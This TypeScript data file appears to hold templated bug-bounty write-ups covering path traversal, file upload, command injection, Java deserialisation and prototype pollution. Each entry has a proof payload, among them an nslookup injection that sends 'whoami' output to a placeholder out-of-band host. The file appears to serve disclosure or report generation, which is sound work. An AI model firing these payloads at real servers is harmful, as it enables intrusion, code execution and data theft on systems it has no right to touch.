import { fenced } from "../fenced.ts";
import type { WriteUp } from "../shapes.ts";

/** Files, commands and objects that the server should not have taken. */
export const fileWriteUps: readonly WriteUp[] = [
  {
    key: "path-traversal",
    cwe: 22,
    kinds: ["file"],
    vectors: [
      "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N",
      "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N",
      "CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:H/VA:L/SC:N/SI:N/SA:N",
    ],
    titles: [
      "Path traversal in the {feature} reads any file",
      "Zip entries named `../../` leave the folder of the {feature}",
      "`..%2f` in `{param}`: {path} serves what lies above",
    ],
    summaries: [
      "The {feature} joins `{param}` to a folder and opens the result. `../` is removed once, so `....//` becomes `../`.",
      "Archives given to the {feature} are unpacked with the names they contain. A name with `../` is written outside.",
    ],
    details: [
      "I read one file that cannot hurt anybody, `/etc/os-release`. The process does not run as root.",
      "I wrote one empty file, `/tmp/{token}`, and saw it disappear through the same hole. Please remove it if it is still there.",
    ],
    proofs: [
      fenced(
        "console",
        "$ curl --path-as-is 'https://{host}{path}?{param}=....//....//....//etc/os-release'",
        'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"',
      ),
      fenced(
        "python",
        "import zipfile",
        "with zipfile.ZipFile('x.zip', 'w') as z:",
        "    z.writestr('../../../../tmp/{token}', '')",
      ),
    ],
    steps: [
      ["Prepare the file or the address as above.", "Send it to the {feature}.", "Compare the answer with an ordinary one."],
    ],
    impacts: [
      "Configuration, keys and source can be read.",
      "Overwriting files of the application means running code sooner or later.",
    ],
    fixes: ["Resolve the path first and compare it with the folder afterwards; refuse, do not repair."],
  },
  {
    key: "file-upload",
    cwe: 434,
    kinds: ["file"],
    vectors: [
      "CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:L/I:L/A:N",
      "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H",
      "CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:P/VC:L/VI:L/VA:N/SC:L/SI:L/SA:N",
    ],
    titles: [
      "{feature} accepts SVG with script and serves it inline",
      "Content type is believed: HTML as `image/png` through the {feature}",
      "Unrestricted upload at {path}",
    ],
    summaries: [
      "The {feature} looks at the declared type and the ending, not at the content. A page with a script, called `a.png`, is stored and later served as `text/html`, because the answer's type is guessed again.",
      "An SVG picture is a document that may run scripts. The {feature} takes it and shows it on {host} itself.",
    ],
    details: [
      "The stored file lies on the same origin as the application, without `Content-Disposition` and without `nosniff`.",
      "Polyglots work too: a valid GIF that begins with `GIF89a=1;` is a valid script as well.",
    ],
    proofs: [
      fenced(
        "http",
        "POST {path} HTTP/1.1",
        "Host: {host}",
        "Content-Type: multipart/form-data; boundary=x",
        "",
        "--x",
        'Content-Disposition: form-data; name="{param}"; filename="me.svg"',
        "Content-Type: image/png",
        "",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
        "--x--",
      ),
    ],
    steps: [
      [
        "Upload the file above with the {feature}.",
        "Copy the address under which it is shown.",
        "Open the address as another user.",
      ],
    ],
    impacts: [
      "A link to your own host runs my script in the session of whoever opens it.",
      "Phishing pages and scripts can be hosted under your name, and read the sessions of your users.",
    ],
    fixes: ["Decide the type from the content, re-encode pictures, serve user files from a host of their own as attachment."],
  },
  {
    key: "command-injection",
    cwe: 78,
    kinds: ["file"],
    vectors: [
      "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H",
      "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
      "CVSS:3.1/AV:A/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H",
    ],
    titles: [
      "Command injection through the file name in the {feature}",
      "`{param}` reaches a shell: code execution on the host of the {feature}",
      "Backticks in `{param}` are executed ({feature})",
    ],
    summaries: [
      "`{param}` is put into a command line without quoting. A semicolon ends your command, and the rest is mine.",
      "The {feature} calls an external program with a name that I choose. A name like `` a`sleep 9`.png `` makes it wait nine seconds.",
    ],
    details: [
      "The user is `www-data`; outgoing DNS is allowed, which is how I saw the answer of `whoami`.",
      "Spaces are removed, `$IFS` is not. I ran `id` and `sleep`, three times in all, on {date}.",
    ],
    proofs: [
      fenced("sh", "# name of the file, or value of {param}", "x;nslookup$IFS$(whoami).{oob};.png"),
      fenced("console", "$ tail -1 dns.log", "{date} query: www-data.{oob} A from 192.0.2.53"),
    ],
    steps: [
      [
        "Listen for DNS queries at `{oob}`.",
        "Use the value above in the {feature}.",
        "A query with the name of the user arrives within two seconds.",
      ],
    ],
    impacts: [
      "Whoever may use the {feature} runs programs on the server, with its network and its secrets.",
      "Complete control of that host, and a foothold inside.",
    ],
    fixes: ["Call the program without a shell, with an argument list. Give the file a name of your own first."],
  },
  {
    key: "deserialization",
    cwe: 502,
    kinds: ["api"],
    vectors: ["CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:H", "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H"],
    titles: [
      "Deserialisation of untrusted data in the {feature}",
      "`{param}` is a base64 object stream, and {host} reads it",
      "Gadget chain through the {feature} of {product}",
    ],
    summaries: [
      "`{param}` starts with `rO0AB`, which is what serialised Java objects look like in base64. The server reads it before it checks the signature.",
      "The {feature} restores an object from `{param}`. Its class is chosen by whoever sends it.",
    ],
    details: [
      "With a harmless chain (`URLDNS`) the server looks up a name of my choice; that proves that it reads the stream. I did not try a chain that runs commands, but commons-collections 3.2.1 is on the class path according to the error page.",
      "For objects of unknown classes the error names the class loader, for known ones it complains about a cast. So one can list the class path.",
    ],
    proofs: [
      fenced(
        "console",
        "$ java -jar gadget.jar URLDNS http://{token}.{oob} | base64 -w0 > p",
        "$ curl -s 'https://{host}{path}' -d {param}=@p",
        "java.lang.ClassCastException: class java.util.HashMap cannot be cast",
        "$ grep {token} dns.log",
        "{token}.{oob} A  from 198.51.100.90",
      ),
    ],
    steps: [["Make the stream as above.", "Send it in `{param}`.", "See the lookup arrive."]],
    impacts: [
      "With a suitable chain: code execution before authentication. I rate the complexity high because I did not build one.",
      "Very likely remote code execution; certainly a list of everything on the class path.",
    ],
    fixes: ["Use JSON. If that is not possible, check the signature first and allow a list of classes."],
  },
  {
    key: "prototype-pollution",
    cwe: 1321,
    kinds: ["api", "graph"],
    vectors: ["CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:L/I:H/A:L", "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:L/I:L/A:H"],
    titles: [
      "Prototype pollution in the {feature} (`__proto__` in `{param}`)",
      "Deep merge of `{param}` changes all objects of the process",
      "`constructor.prototype` in {param}: every user becomes `isAdmin`",
    ],
    summaries: [
      "The {feature} merges the JSON it gets into its defaults with a recursive function. The key `__proto__` is followed like any other, so a property can be added to *all* objects of the process.",
      'Sending `{"__proto__": {"spaces": 9}}` indents the JSON of all later answers, for everybody, until the process restarts. That is the harmless version.',
    ],
    details: [
      "I only used `json spaces`, which can be seen and does no harm, and asked for a restart through your support right away (ticket {n}).",
      "`JSON.parse` makes `__proto__` an own property, and `merge()` then walks into the real one.",
    ],
    proofs: [
      fenced(
        "http",
        "POST {path} HTTP/1.1",
        "Host: {host}",
        "Content-Type: application/json",
        "",
        '{"{param}": {"__proto__": {"json spaces": 9}}}',
      ),
    ],
    steps: [["Send the request above.", "Send any other request: its JSON is indented by nine spaces."]],
    impacts: [
      "Depending on what reads unset properties: rights, templates, or options of child processes.",
      "At the least everybody's service breaks; at the worst code runs.",
    ],
    fixes: ["Skip `__proto__`, `constructor` and `prototype`; or use objects without a prototype."],
  },
];
